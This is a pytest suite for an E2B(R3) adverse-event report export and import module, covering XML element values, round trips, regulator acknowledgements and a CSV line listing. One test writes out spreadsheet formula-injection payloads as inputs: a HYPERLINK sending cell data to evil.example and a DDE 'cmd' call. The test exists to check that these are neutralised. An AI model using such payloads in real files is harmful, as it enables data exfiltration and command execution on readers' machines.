"""E2B(R3): values at the ICH element paths, the round trip, acknowledgements, refusals.

MedDRA codes here are made up (8 digits); no MedDRA content is shipped.
"""

import csv
import io
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest

from pharmacovigilance import e2b
from pharmacovigilance.domain.case import (
    SERIOUSNESS,
    Case,
    CaseMedicine,
    CaseReaction,
    Causality,
    CodedTerm,
)
from pharmacovigilance.e2b import Acknowledgement, E2BError, MessageAcknowledgement

DATA = Path(__file__).parent / "data"
NS = {"": "urn:hl7-org:v3", "xsi": "http://www.w3.org/2001/XMLSchema-instance"}
ICH = "2.16.840.1.113883.3.989.2.1"
XSI_TYPE = "{http://www.w3.org/2001/XMLSchema-instance}type"
IST = timezone(timedelta(hours=5, minutes=30))
EVENT = "PORR_IN049016UV/controlActProcess/subject/investigationEvent"
ROLE = f"{EVENT}/component/adverseEventAssessment/subject1/primaryRole"
ASSESSMENT = f"{EVENT}/component/adverseEventAssessment"
REPORTER = (f"{EVENT}/outboundRelationship/relatedInvestigation/subjectOf2/controlActEvent/"
            "author/assignedEntity/assignedPerson")

RASH, HEADACHE = UUID(int=11), UUID(int=12)
DRUGZOL, PARACETAMOL = UUID(int=21), UUID(int=22)
SERIOUS = {"death": "no", "life_threatening": "no", "hospitalisation": "yes",
           "disability": "unknown", "congenital_anomaly": "no",
           "other_medically_important": "unknown"}


def a_case(**changes: Any) -> Case:
    """A consumer's report from India, as the service builds it: Hindi words, a withheld name."""
    rash = CaseReaction(RASH, "त्वचा पर दाने", "hi", date(2024, 1, 2), date(2024, 1, 9),
                        "recovered", SERIOUS, CodedTerm("10099991", "Made-up rash", "27.1"))
    headache = CaseReaction(HEADACHE, "sir dard", "en",
                            seriousness=dict.fromkeys(SERIOUSNESS, "unknown"))
    drugzol = CaseMedicine(DRUGZOL, "Drugzol 500", "suspect", "Acme Pharma", "B-2291",
                           "1 tablet", "oral", "twice a day", date(2023, 12, 30),
                           date(2024, 1, 3), "fever", "withdrawn", "no")
    paracetamol = CaseMedicine(PARACETAMOL, "Paracetamol", "concomitant")
    case = Case(
        case_id=UUID(int=1), safety_report_id="IN-PU-000123-V1", worldwide_id="IN-PU-000123",
        version=1, created_at=datetime(2024, 1, 5, 10, 30, 0, 250_000, tzinfo=IST),
        first_received=date(2024, 1, 4), most_recent=date(2024, 1, 5),
        reporter_qualification=5, reporter_name=None, patient_initials="RK",
        patient_sex="female", patient_age=34, patient_weight_kg=61.5,
        reactions=(rash, headache), medicines=(drugzol, paracetamol),
        causality=(Causality(DRUGZOL, RASH, "probable"),),
        narrative="Rash two days after starting Drugzol.", history="asthma since childhood")
    return replace(case, **changes)


def batch(*cases: Case) -> bytes:
    return e2b.batch_xml(cases or (a_case(),), batch_id="IN-PU-BATCH-0007",
                         sender_id="PATIENTS-UNION", receiver_id="PVPI",
                         created_at=datetime(2024, 1, 5, 12, 0, tzinfo=UTC))


def root_of(xml: bytes) -> ET.Element:
    return ET.fromstring(xml)  # noqa: S314 - our own output


def at(parent: ET.Element, path: str) -> ET.Element:
    found = parent.find(path, NS)
    assert found is not None, path
    return found


def coded(parent: ET.Element, path: str, code: str) -> ET.Element:
    """The element at path whose `code` child has this code in the ICH observation list."""
    [found] = [element for element in parent.findall(path, NS)
               if at(element, "code").attrib == {"code": code, "codeSystem": f"{ICH}.1.19"}]
    return found


def reaction(root: ET.Element, index: int = 0) -> ET.Element:
    return [o for o in root.findall(f"{ROLE}/subjectOf2/observation", NS)
            if at(o, "code").get("code") == "29"][index]


# --- values at the element paths --------------------------------------------------------------

def test_message_id_is_the_safety_report_id_and_c_1_8_1_is_the_worldwide_id() -> None:
    root = root_of(batch())
    assert at(root, "PORR_IN049016UV/id").attrib == {"root": f"{ICH}.3.1",
                                                     "extension": "IN-PU-000123-V1"}
    assert at(root, f"{EVENT}/id[@root='{ICH}.3.1']").get("extension") == "IN-PU-000123-V1"
    assert at(root, f"{EVENT}/id[@root='{ICH}.3.2']").get("extension") == "IN-PU-000123"


def test_a_follow_up_keeps_c_1_8_1_under_a_new_c_1_1() -> None:
    follow_up = a_case(safety_report_id="IN-PU-000123-V2", version=2,
                       created_at=datetime(2024, 2, 1, 9, 0, tzinfo=IST))
    root = root_of(batch(a_case(), follow_up))
    acts = root.findall("PORR_IN049016UV/controlActProcess", NS)
    assert [at(a, f"subject/investigationEvent/id[@root='{ICH}.3.2']").get("extension")
            for a in acts] == ["IN-PU-000123", "IN-PU-000123"]
    assert [at(a, f"subject/investigationEvent/id[@root='{ICH}.3.1']").get("extension")
            for a in acts] == ["IN-PU-000123-V1", "IN-PU-000123-V2"]
    assert [at(a, "effectiveTime").get("value") for a in acts] == [  # C.1.2
        "20240105103000.250000+0530", "20240201090000+0530"]


def test_the_batch_opens_with_its_header_and_closes_with_receiver_then_sender() -> None:
    root = root_of(batch(a_case(), a_case(safety_report_id="IN-PU-000124-V1")))
    assert root.tag == "{urn:hl7-org:v3}MCCI_IN200100UV01" and root.get("ITSVersion") == "XML_1.0"
    assert [child.tag.rpartition("}")[2] for child in root] == [
        "id", "creationTime", "responseModeCode", "interactionId", "name",
        "PORR_IN049016UV", "PORR_IN049016UV", "receiver", "sender"]
    assert at(root, "id").attrib == {"root": f"{ICH}.3.22", "extension": "IN-PU-BATCH-0007"}
    assert at(root, "name").get("code") == "1"
    assert at(root, "receiver/device/id").attrib == {"root": f"{ICH}.3.14", "extension": "PVPI"}
    assert at(root, "sender/device/id").attrib == {"root": f"{ICH}.3.13",
                                                   "extension": "PATIENTS-UNION"}


def test_primary_source_qualification_country_and_masked_name() -> None:
    person = at(root_of(batch()), REPORTER)
    assert at(person, "asQualifiedEntity/code").attrib == {"code": "5",
                                                           "codeSystem": f"{ICH}.1.6"}
    assert at(person, "asLocatedEntity/location/code").get("code") == "IN"
    assert [(part.tag.rpartition("}")[2], part.get("nullFlavor")) for part in at(person, "name")
            ] == [("given", "MSK"), ("family", "MSK")]


def test_a_reporter_who_consented_is_named() -> None:
    person = at(root_of(batch(a_case(reporter_name="Rekha Devi Kumari"))), REPORTER)
    assert at(person, "name/given").text == "Rekha Devi"
    assert at(person, "name/family").text == "Kumari"


def test_patient_initials_sex_and_age() -> None:
    player = at(root_of(batch()), f"{ROLE}/player1")
    assert at(player, "name").text == "RK"
    assert at(player, "administrativeGenderCode").attrib == {"code": "2",
                                                             "codeSystem": "1.0.5218"}
    age = coded(root_of(batch()), f"{ROLE}/subjectOf2/observation", "3")
    assert at(age, "value").attrib == {XSI_TYPE: "PQ", "value": "34", "unit": "a"}


def test_withheld_initials_are_masked_and_other_sexes_unknown() -> None:
    root = root_of(batch(a_case(patient_initials=None, patient_sex="other", patient_age=7,
                                patient_age_unit="months")))
    assert at(root, f"{ROLE}/player1/name").attrib == {"nullFlavor": "MSK"}
    assert at(root, f"{ROLE}/player1/administrativeGenderCode").attrib == {"nullFlavor": "UNK"}
    age = coded(root, f"{ROLE}/subjectOf2/observation", "3")
    assert at(age, "value").get("unit") == "mo"


def test_reaction_verbatim_language_and_meddra_code() -> None:
    value = at(reaction(root_of(batch())), "value")
    assert value.attrib == {XSI_TYPE: "CE", "code": "10099991",
                            "codeSystem": "2.16.840.1.113883.6.163", "codeSystemVersion": "27.1",
                            "displayName": "Made-up rash"}
    assert at(value, "originalText").text == "त्वचा पर दाने"
    assert at(value, "originalText").get("language") == "hin"  # ISO 639-2, as E.i.1.1b wants


def test_a_reaction_not_yet_coded_keeps_its_words_without_a_code() -> None:
    value = at(reaction(root_of(batch()), 1), "value")
    assert value.attrib == {XSI_TYPE: "CE"}
    assert at(value, "originalText").attrib == {"language": "eng"}


def test_seriousness_criteria_are_true_or_null_no_information_no_and_unknown_alike() -> None:
    observed = reaction(root_of(batch()))
    flags = {code: at(coded(observed, "outboundRelationship2/observation", code), "value").attrib
             for code in ("34", "21", "33", "35", "12", "26")}
    no_information = {XSI_TYPE: "BL", "nullFlavor": "NI"}  # as the FDA sample writes it
    assert flags == {"34": no_information, "21": no_information,
                     "33": {XSI_TYPE: "BL", "value": "true"},
                     "35": no_information, "12": no_information, "26": no_information}


def test_an_icsr_of_a_case_answered_no_carries_no_false_anywhere() -> None:
    no = dict.fromkeys(SERIOUSNESS, "no")
    reactions = tuple(replace(r, seriousness=no) for r in a_case().reactions)
    xml = batch(a_case(reactions=reactions)).decode()
    assert 'value="false"' not in xml and "false" not in xml.lower()
    assert xml.count('nullFlavor="NI"') >= len(reactions) * len(SERIOUSNESS)


def test_a_seriousness_criterion_written_false_is_refused_when_read() -> None:
    xml = batch().decode()
    old = '<value xsi:type="BL" value="true" />'
    assert old in xml
    with pytest.raises(E2BError, match=r"E\.i\.3\.2"):
        e2b.read_batch(xml.replace(old, '<value xsi:type="BL" value="false" />').encode())


@pytest.mark.parametrize(("outcome", "code"), [
    ("recovered", "1"), ("recovering", "2"), ("not_recovered", "3"),
    ("recovered_with_sequelae", "4"), ("fatal", "5"), ("unknown", "0")])
def test_outcome_codes(outcome: str, code: str) -> None:
    rash = replace(a_case().reactions[0], outcome=outcome)
    observed = reaction(root_of(batch(a_case(reactions=(rash,)))))
    value = at(coded(observed, "outboundRelationship2/observation", "27"), "value")
    assert value.attrib == {XSI_TYPE: "CE", "code": code, "codeSystem": f"{ICH}.1.11"}


def test_medicines_are_characterised_suspect_or_concomitant() -> None:
    root = root_of(batch())
    roles = {at(judged, "subject2/productUseReference/id").get("root"): at(judged, "value").attrib
             for judged in root.findall(f"{ASSESSMENT}/component/causalityAssessment", NS)
             if at(judged, "code").get("code") == "20"}
    assert roles == {str(DRUGZOL): {XSI_TYPE: "CE", "code": "1", "codeSystem": f"{ICH}.1.13"},
                     str(PARACETAMOL): {XSI_TYPE: "CE", "code": "2", "codeSystem": f"{ICH}.1.13"}}
    names = [name.text for name in root.findall(
        f"{ROLE}/subjectOf2/organizer/component/substanceAdministration/consumable/"
        "instanceOfKind/kindOfProduct/name", NS)]
    assert names == ["Drugzol 500", "Paracetamol"]


def test_dosage_action_taken_and_rechallenge_of_a_medicine() -> None:
    [drugzol, _] = root_of(batch()).findall(
        f"{ROLE}/subjectOf2/organizer/component/substanceAdministration", NS)
    assert at(drugzol, "id").get("root") == str(DRUGZOL)
    dosage = at(drugzol, "outboundRelationship2/substanceAdministration")
    assert at(dosage, "text").text == "1 tablet"  # G.k.4.r.8
    assert at(dosage, "routeCode/originalText").text == "oral"  # G.k.4.r.10.1
    assert (at(dosage, "effectiveTime/low").get("value"),
            at(dosage, "effectiveTime/high").get("value")) == ("20231230", "20240103")
    assert at(drugzol, "inboundRelationship/act/code").attrib == {  # G.k.8: withdrawn
        "code": "1", "codeSystem": f"{ICH}.1.15"}
    recurrences = [o for o in drugzol.findall("outboundRelationship2/observation", NS)
                   if at(o, "code").get("code") == "31"]  # G.k.9.i.4, per reaction: yes - no
    assert [(at(o, "value").get("code"), at(o, "value").get("codeSystem"),
             at(o, "outboundRelationship1/actReference/id").get("root")) for o in recurrences] == [
        ("2", f"{ICH}.1.16", str(RASH)), ("2", f"{ICH}.1.16", str(HEADACHE))]


def test_relatedness_by_who_umc_links_medicine_and_reaction() -> None:
    root = root_of(batch())
    judged = coded(root, f"{ASSESSMENT}/component/causalityAssessment", "39")
    assert at(judged, "value").attrib == {XSI_TYPE: "ST"} and at(judged, "value").text == "probable"
    assert at(judged, "methodCode/originalText").text == "WHO-UMC"
    assert at(judged, "subject1/adverseEffectReference/id").get("root") == str(RASH)
    assert at(judged, "subject2/productUseReference/id").get("root") == str(DRUGZOL)
    assert at(reaction(root), "id").get("root") == str(RASH)


def test_narrative_sender_type_and_organisation_and_report_type() -> None:
    root = root_of(batch())
    assert at(root, f"{EVENT}/text").text == "Rash two days after starting Drugzol."
    sender = at(root, f"{EVENT}/subjectOf1/controlActEvent/author/assignedEntity")
    assert at(sender, "code").attrib == {"code": "6", "codeSystem": f"{ICH}.1.7"}
    organisation = "representedOrganization/assignedEntity/representedOrganization/name"
    assert at(sender, organisation).text == "Patients' Union"  # C.3.2
    report_type = at(root, f"{EVENT}/subjectOf2/investigationCharacteristic/value")
    assert report_type.get("code") == "1" and report_type.get("codeSystem") == f"{ICH}.1.2"


# --- the round trip ------------------------------------------------------------------------------

def as_the_icsr_carries(case: Case) -> Case:
    """The case read back from its ICSR: E.i.3.2 carries only true or NI, so a "no" of the
    reporter's (kept in our own record) comes back "unknown"."""
    return replace(case, reactions=tuple(replace(r, seriousness={
        c: "yes" if r.seriousness.get(c) == "yes" else "unknown" for c in SERIOUSNESS})
        for r in case.reactions))


def test_cases_read_back_equal() -> None:
    cases = [a_case(),
             a_case(safety_report_id="IN-PU-000123-V2", version=2, reporter_name="Asha",
                    reporter_qualification=1, patient_sex=None, patient_age=None,
                    patient_birth_date=date(1990, 3, 1), patient_weight_kg=None,
                    created_at=datetime(2024, 2, 1, 9, 0, tzinfo=IST)),
             a_case(case_id=UUID(int=2), patient_initials=None, patient_sex="unknown",
                    reactions=(), medicines=(), causality=(), narrative="", history="")]
    assert e2b.read_batch(batch(*cases)) == [as_the_icsr_carries(c) for c in cases]


def test_the_batch_header_reads_back() -> None:
    header = e2b.read_batch_header(batch())
    assert header == e2b.BatchHeader(batch_id="IN-PU-BATCH-0007", sender_id="PATIENTS-UNION",
                                     receiver_id="PVPI",
                                     created_at=datetime(2024, 1, 5, 12, 0, tzinfo=UTC))


# --- acknowledgements ----------------------------------------------------------------------------

def test_the_fda_positive_acknowledgement_is_read() -> None:
    ack = e2b.read_ack((DATA / "R3ack-positive.ack").read_bytes())
    assert ack == Acknowledgement(
        ack_id="33439257", batch_id="FAERS2022Scenario1-4069-a2dd-08002b30309d", code="AA",
        messages=(MessageAcknowledgement(
            message_id="21ec1492-3aea-4069-a2ab-08002b30309d US-APHARMA-8744554B", code="CA",
            detail="Report Loaded Successfully", local_report_id="19426648"),),
        detail="message successfully processed, no further action")


def test_a_negative_acknowledgement_is_read() -> None:
    ack = e2b.read_ack((DATA / "R3ack-negative.ack").read_bytes())
    assert (ack.batch_id, ack.code, ack.detail) == ("IN-PU-BATCH-0007", "AE",
                                                    "1 of 2 messages rejected")
    assert [(m.message_id, m.code, m.detail, m.local_report_id) for m in ack.messages] == [
        ("IN-PU-000123-V1", "CA", None, "PVPI-2024-000731"),
        ("IN-PU-000124-V1", "CR", "E.i.2.1b: MedDRA code of reaction 1 is missing", None)]


def test_a_regulator_answers_a_batch_message_by_message() -> None:
    received = batch(a_case(), a_case(safety_report_id="IN-PU-000124-V1"))
    header, cases = e2b.read_batch_header(received), e2b.read_batch(received)
    answer = Acknowledgement(
        ack_id="ACK-1", batch_id=header.batch_id, code="AE", detail="1 of 2 rejected",
        messages=(MessageAcknowledgement(cases[0].safety_report_id, "CA", local_report_id="7"),
                  MessageAcknowledgement(cases[1].safety_report_id, "CR", "E.i.2.1b missing")))
    xml = e2b.ack_xml(answer, sender_id=header.receiver_id, receiver_id=header.sender_id,
                      created_at=datetime(2024, 1, 6, tzinfo=UTC))
    root = root_of(xml)
    assert at(root, "acknowledgement").get("typeCode") == "AE"
    assert at(root, "acknowledgement/targetBatch/id").attrib == {
        "root": f"{ICH}.3.22", "extension": "IN-PU-BATCH-0007"}
    accepted, rejected = root.findall("MCCI_IN000002UV01", NS)
    assert [(at(m, "acknowledgement").get("typeCode"),
             at(m, "acknowledgement/targetMessage/id").attrib) for m in (accepted, rejected)] == [
        ("CA", {"root": f"{ICH}.3.1", "extension": "IN-PU-000123-V1"}),
        ("CR", {"root": f"{ICH}.3.1", "extension": "IN-PU-000124-V1"})]
    assert at(rejected, "acknowledgement/acknowledgementDetail/text").text == "E.i.2.1b missing"
    assert at(accepted, "id").attrib == {"root": f"{ICH}.3.19", "extension": "7"}
    assert at(root, "sender/device/id").attrib == {"root": f"{ICH}.3.17", "extension": "PVPI"}
    assert e2b.read_ack(xml) == answer


# --- refusals ------------------------------------------------------------------------------------

@pytest.mark.parametrize("xml", [
    b"", b"<MCCI_IN200100UV01", b"\xff\xfe<x/>", b"plain text",
    b'<MCCI_IN200100UV01 ITSVersion="XML_1.0"/>',  # no HL7 namespace
    b'<MCCI_IN200101UV01 xmlns="urn:hl7-org:v3"/>',  # an acknowledgement, not a batch
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>'
    b'<MCCI_IN200100UV01 xmlns="urn:hl7-org:v3">&a;</MCCI_IN200100UV01>',
])
def test_what_is_not_an_icsr_batch_is_refused(xml: bytes) -> None:
    with pytest.raises(E2BError):
        e2b.read_batch(xml)


@pytest.mark.parametrize(("old", "new"), [
    (f'<id root="{ICH}.3.1" extension="IN-PU-000123-V1" />', ""),  # C.1.1
    (f'root="{UUID(int=1)}"', 'root="not-a-uuid"'),
    ('value="20240104"', 'value="2024-01-04"'),
    (f'code="1" codeSystem="{ICH}.1.11"', f'code="7" codeSystem="{ICH}.1.11"'),  # E.i.7
    ('unit="a"', 'unit="wk"'),
])
def test_a_batch_missing_or_garbling_an_element_is_refused(old: str, new: str) -> None:
    xml = batch().decode()
    assert old in xml
    with pytest.raises(E2BError):
        e2b.read_batch(xml.replace(old, new).encode())  # every occurrence


@pytest.mark.parametrize("case", [
    a_case(reactions=(replace(a_case().reactions[0], outcome="better"),)),
    a_case(medicines=(replace(a_case().medicines[0], role="suspected"),)),
    a_case(reporter_qualification=9),
])
def test_what_e2b_cannot_say_is_refused_when_writing(case: Case) -> None:
    with pytest.raises(E2BError):
        batch(case)


def test_text_stored_with_characters_xml_cannot_carry_is_written_without_them() -> None:
    """Text kept from before intake refused them: a vertical tab pasted from a word
    processor is the line break it meant; a bell or NUL is left out; never a refusal."""
    pasted = replace(a_case().reactions[0], description="rash\x0bitching\x07")
    [read] = e2b.read_batch(batch(a_case(narrative="bell \x07\x00done", reactions=(pasted,),
                                         worldwide_id="IN-PU-\x00000001")))
    assert read.narrative == "bell done" and read.reactions[0].description == "rash\nitching"
    assert read.worldwide_id == "IN-PU-000001"


def test_a_case_that_cannot_be_written_is_left_out_and_told_when_asked() -> None:
    def numbered(n: int, **changes: Any) -> Case:
        return a_case(case_id=UUID(int=n), safety_report_id=f"IN-PU-00000{n}-V1", **changes)

    unwritable = numbered(2, reporter_qualification=9)
    told: list[tuple[str, str]] = []
    xml = e2b.batch_xml([numbered(1), unwritable, numbered(3)], batch_id="B", sender_id="S",
                        receiver_id="R", created_at=datetime(2024, 1, 1, tzinfo=UTC),
                        left_out=lambda case, error: told.append((case.safety_report_id,
                                                                  str(error))))
    assert [c.safety_report_id for c in e2b.read_batch(xml)] == [
        "IN-PU-000001-V1", "IN-PU-000003-V1"]
    assert told == [("IN-PU-000002-V1", "reporter qualification 9 is not in 1.6")]
    with pytest.raises(E2BError):  # a batch with not one case written is no batch
        e2b.batch_xml([unwritable], batch_id="B", sender_id="S", receiver_id="R",
                      created_at=datetime(2024, 1, 1, tzinfo=UTC), left_out=lambda *_: None)


def test_an_empty_batch_and_unknown_acknowledgement_codes_are_refused() -> None:
    with pytest.raises(E2BError):
        e2b.batch_xml([], batch_id="B", sender_id="S", receiver_id="R",
                      created_at=datetime(2024, 1, 1, tzinfo=UTC))
    with pytest.raises(E2BError):
        e2b.ack_xml(Acknowledgement("A", "B", "OK"), sender_id="R", receiver_id="S",
                    created_at=datetime(2024, 1, 1, tzinfo=UTC))
    positive = (DATA / "R3ack-positive.ack").read_bytes()
    with pytest.raises(E2BError):
        e2b.read_ack(positive.replace(b'typeCode="CA"', b'typeCode="XX"'))
    with pytest.raises(E2BError):
        e2b.read_batch(positive)


# --- the line listing ----------------------------------------------------------------------------

def listed(*cases: Case) -> list[dict[str, str]]:
    zipped = e2b.bundle(cases, ["received"] * len(cases), batch_id="B", sender_id="S",
                        receiver_id="R", created_at=datetime(2024, 1, 1, tzinfo=UTC))
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        listing = archive.read("B-line-listing.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(listing)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(start: str) -> None:
    words = f'{start}HYPERLINK("http://evil.example/?"&A1, "rash, \'itchy\'")'
    rash = replace(a_case().reactions[0], description=words)
    medicine = replace(a_case().medicines[0], name=f"{start}cmd|' /C calc'!A0")
    [row] = listed(a_case(reactions=(rash,), medicines=(medicine,), causality=()))
    assert row["reactions"] == f"'{words}"  # the rest of the text intact
    assert row["suspect_medicines"] == f"'{start}cmd|' /C calc'!A0"
    assert row["reference"] == "000123"  # harmless cells as they were


def test_every_cell_of_the_line_listing_is_quoted() -> None:
    zipped = e2b.bundle([a_case()], ["received"], batch_id="B", sender_id="S",
                        receiver_id="R", created_at=datetime(2024, 1, 1, tzinfo=UTC))
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        lines = archive.read("B-line-listing.csv").decode("utf-8-sig").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
